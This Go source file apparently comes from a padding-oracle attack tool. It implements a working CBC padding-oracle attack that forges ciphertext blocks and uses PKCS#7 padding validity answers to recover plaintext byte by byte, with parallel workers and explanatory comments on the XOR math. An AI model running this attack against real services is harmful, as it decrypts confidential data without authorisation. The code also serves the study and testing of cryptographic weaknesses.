// Package attack recovers CBC plaintext one byte at a time from a padding oracle.
//
// The oracle never hands out plaintext, only whether a ciphertext decrypts to valid PKCS#7
// padding. That single bit, asked about carefully forged "previous blocks", is enough to
// recover every block except the first one, which would need the IV.
package attack

import (
	"context"
	"fmt"

	"golang.org/x/sync/errgroup"

	"github.com/mario-areias/padding-oracle/internal/helpers"
	"github.com/mario-areias/padding-oracle/oracle"
)

type Attacker struct {
	oracle oracle.Oracle

	blockSize        int
	blockWorkers     int
	candidateWorkers int
	verify           Verification
	logger           *helpers.Logger
}

// New builds an Attacker. The block size must fit in a padding byte and, when the oracle
// knows its cipher, match it.
func New(o oracle.Oracle, opts ...Option) (*Attacker, error) {
	if o == nil {
		return nil, fmt.Errorf("%w: nil oracle", ErrInvalidInput)
	}

	a := &Attacker{
		oracle:           o,
		blockSize:        DefaultBlockSize,
		blockWorkers:     1,
		candidateWorkers: 1,
		verify:           VerifyNone,
	}
	for _, opt := range opts {
		opt(a)
	}

	if a.blockSize < 1 || a.blockSize > 0xff {
		return nil, fmt.Errorf("%w: block size %d", ErrInvalidInput, a.blockSize)
	}
	if bs, ok := o.(oracle.BlockSizer); ok && bs.BlockSize() != 0 && bs.BlockSize() != a.blockSize {
		return nil, fmt.Errorf("%w: block size %d but the oracle's cipher uses %d", ErrInvalidInput, a.blockSize, bs.BlockSize())
	}
	if a.blockWorkers < 1 {
		a.blockWorkers = 1
	}
	if a.candidateWorkers < 1 {
		a.candidateWorkers = 1
	}

	return a, nil
}

// RecoverPlaintext is a shortcut for New followed by Recover.
func RecoverPlaintext(ctx context.Context, encrypted []byte, o oracle.Oracle, blockSize int, opts ...Option) ([]byte, error) {
	a, err := New(o, append([]Option{WithBlockSize(blockSize)}, opts...)...)
	if err != nil {
		return nil, err
	}
	return a.Recover(ctx, encrypted)
}

func (a *Attacker) BlockSize() int {
	return a.blockSize
}

// Recover decrypts every block of encrypted but the first one, which is returned as zeros.
// The output has the same length as the input, padding included. It either returns all of
// it or an error, never a partial result.
func (a *Attacker) Recover(ctx context.Context, encrypted []byte) ([]byte, error) {
	if len(encrypted) == 0 || len(encrypted)%a.blockSize != 0 {
		return nil, fmt.Errorf("%w: ciphertext of %d bytes is not a positive multiple of %d", ErrInvalidInput, len(encrypted), a.blockSize)
	}

	blocks := split(encrypted, a.blockSize)

	// The first block is decrypted against the IV, which we don't have.
	decrypted := make([][]byte, len(blocks))
	decrypted[0] = make([]byte, a.blockSize)

	// Each block only depends on itself and the ciphertext block before it, so blocks can be
	// attacked in any order. Results land in their own slot.
	g, gctx := errgroup.WithContext(ctx)
	g.SetLimit(a.blockWorkers)

	for i := 1; i < len(blocks); i++ {
		g.Go(func() error {
			p, err := a.decryptBlockPair(gctx, i, blocks[i-1], blocks[i])
			if err != nil {
				return err
			}
			decrypted[i] = p
			a.debug("block recovered", i, len(blocks)-1)
			return nil
		})
	}

	if err := g.Wait(); err != nil {
		return nil, err
	}

	return join(decrypted), nil
}

// decryptBlockPair recovers the plaintext of target, the ciphertext block number index.
//
// In CBC, P[i] = D(C[i]) ^ C[i-1]. The oracle decrypts forged ‖ target and checks the padding
// of D(target) ^ forged, so by choosing forged we choose which padding it checks for. Once the
// oracle accepts, the padding value is known and so is D(target) at that position.
func (a *Attacker) decryptBlockPair(ctx context.Context, index int, previous, target []byte) ([]byte, error) {
	bs := a.blockSize

	// intermediate is D(target), filled from the end.
	intermediate := make([]byte, bs)
	// forged is the previous block we send instead of the real one.
	forged := make([]byte, bs)
	decrypted := make([]byte, bs)

	probe := make([]byte, 2*bs)
	copy(probe[bs:], target)

	// Rounds must run in order: each one relies on the intermediate bytes found by the previous ones.
	for padding := 1; padding <= bs; padding++ {
		if err := ctx.Err(); err != nil {
			return nil, fmt.Errorf("attack: block %d: %w", index, err)
		}

		// Bytes already found are set so they decrypt to the padding value we are now looking for.
		// For example, if intermediate[15] = 0x2f, the first round found forged[15] = 0x2e since
		// 0x2f ^ 0x2e = 0x01. Looking for the byte 14, the padding is 0x02 so
		// forged[15] = 0x2f ^ 0x02 = 0x2d and forged[14] is searched among all 256 values.
		for offset := 1; offset < padding; offset++ {
			forged[bs-offset] = byte(padding) ^ intermediate[bs-offset]
		}

		// The untouched prefix keeps the real previous block, the tail is forged.
		z := bs - padding
		copy(probe[:z+1], previous[:z+1])
		copy(probe[z+1:bs], forged[z+1:])

		b, err := a.findPaddingByte(ctx, probe, padding)
		if err != nil {
			if ie, ok := err.(*InconsistencyError); ok {
				ie.Block = index
				return nil, ie
			}
			return nil, fmt.Errorf("attack: block %d: %w", index, err)
		}
		forged[z] = b

		// b ^ D(target)[z] == padding, hence D(target)[z] == b ^ padding.
		intermediate[z] = b ^ byte(padding)

		// The final step to decrypt in CBC is to XOR against the real previous ciphertext.
		decrypted[z] = intermediate[z] ^ previous[z]
	}

	return decrypted, nil
}

func (a *Attacker) debug(msg string, args ...interface{}) {
	if a.logger != nil {
		a.logger.Debug(msg, args...)
	}
}

func split(b []byte, n int) [][]byte {
	blocks := make([][]byte, 0, len(b)/n)
	for i := 0; i < len(b); i += n {
		blocks = append(blocks, b[i:i+n])
	}
	return blocks
}

func join(blocks [][]byte) []byte {
	var out []byte
	for _, b := range blocks {
		out = append(out, b...)
	}
	return out
}
